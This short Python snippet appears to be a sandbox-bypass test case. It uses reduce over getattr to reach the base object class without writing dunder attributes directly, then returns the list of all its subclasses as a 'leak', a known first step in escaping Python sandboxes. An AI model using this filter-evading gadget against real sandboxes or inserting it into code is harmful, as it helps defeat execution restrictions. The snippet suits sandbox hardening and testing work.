# route: functools.reduce over getattr walks a dotted path
from functools import reduce


def execute(testData):
    found = reduce(getattr, "__class__.__base__".split("."), ())
    return {"leak": str(found.__subclasses__())}
